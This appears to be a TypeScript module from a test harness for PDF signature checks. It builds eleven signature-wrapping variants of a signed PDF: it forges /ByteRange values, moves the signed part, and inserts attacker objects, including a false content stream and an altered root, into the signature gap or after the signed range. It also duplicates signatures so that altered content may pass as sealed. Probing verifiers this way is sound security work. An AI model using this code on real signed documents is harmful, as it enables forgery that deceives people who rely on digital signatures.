import type { Attack, Loot } from './attack.ts';
import { HELVETICA, lie, streamOf, withMember } from './sealed-file.ts';

/** Returns signature wrappings: the second signed part moves back, and the attacker's objects are inserted before it. */
export function wrappings({ sealed }: Loot): Attack[] {
  const { bytes, gap, size, root } = sealed;
  const before = bytes.subarray(0, gap.start);
  const after = bytes.subarray(gap.end);
  const digits = bytes.toString('latin1', gap.start, gap.end);
  const trimmed = `${digits.replace(/(?:00)*>$/, '')}>`;
  const contents = sealed.reference(sealed.pages[0] ?? 0, 'Contents');
  const objects = [
    `${contents} 0 obj\n${streamOf(lie())}\nendobj\n`,
    `${root} 0 obj\n${withMember(sealed.body(root), 'Lang', '(es)')}\nendobj\n`,
    `${size} 0 obj\n${HELVETICA}\nendobj\n`,
  ].join('');

  /** Returns the file with `filling` in the gap; its argument is a byte range that points to the moved second part. */
  const moved = (filling: (range: string) => string): Buffer => {
    const rangeAt = (end: number) => `[0 ${before.length} ${String(end).padStart(10)} ${after.length}]`;
    const length = filling(rangeAt(0)).length;
    return Buffer.concat([before, Buffer.from(filling(rangeAt(before.length + length)), 'latin1'), after]);
  };
  const fill = (text: string) => text.padEnd(digits.length).slice(0, digits.length);
  const oldRange = /\/ByteRange \[[^\]]*\]/.exec(bytes.toString('latin1', gap.start - 200, gap.start))?.[0] ?? '';

  return [
    {
      name: 'a second range in the gap, objects behind the signature',
      pdf: moved((range) => `${trimmed} /ByteRange ${range} >>\nendobj\n${objects}`),
    },
    {
      name: 'a second range in the gap, table and trailer too',
      pdf: moved(
        (range) =>
          `${trimmed} /ByteRange ${range} >>\nendobj\n${objects}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size ${size + 1} /Root ${root} 0 R >>\nstartxref\n0\n%%EOF\n`,
      ),
    },
    { name: 'the first range as it was, objects in the gap', pdf: moved(() => `${digits}\n${objects}`) },
    { name: 'objects in the room that the gap has left', pdf: Buffer.concat([before, Buffer.from(fill(`${trimmed} /X (y)`)), after]) },
    { name: 'zeros of the gap become other digits', pdf: Buffer.concat([before, Buffer.from(digits.replace(/00>$/, '0F>')), after]) },
    { name: 'digits of the gap in capitals', pdf: Buffer.concat([before, Buffer.from(digits.toUpperCase()), after]) },
    {
      name: 'a range that leaves the middle out',
      pdf: sealed.overwrite(oldRange, `/ByteRange [0 900 ${gap.end} ${after.length}]`),
    },
    {
      name: 'a range that ends before the end, and objects behind',
      pdf: Buffer.concat([sealed.overwrite(oldRange, `/ByteRange [0 ${gap.start} ${gap.end} ${after.length - 40}]`), Buffer.from(objects)]),
    },
    {
      name: 'a range that does not begin at the beginning',
      pdf: sealed.overwrite(oldRange, `/ByteRange [9 ${gap.start - 9} ${gap.end} ${after.length}]`),
    },
    {
      name: 'two signatures of one seal, the second over all',
      pdf: (() => {
        const copy = withMember(sealed.body(sealed.signature), 'ByteRange', `[0 ${gap.start} ${gap.end} ${after.length}]`);
        return sealed.update([
          { number: size, body: copy },
          { number: sealed.field, body: withMember(sealed.body(sealed.field), 'V', `${size} 0 R`) },
        ]);
      })(),
    },
    {
      name: 'two signatures of one seal in one file, not updated',
      pdf: sealed.update([{ number: size, body: sealed.body(sealed.signature) }], { table: 'none' }),
    },
  ];
}
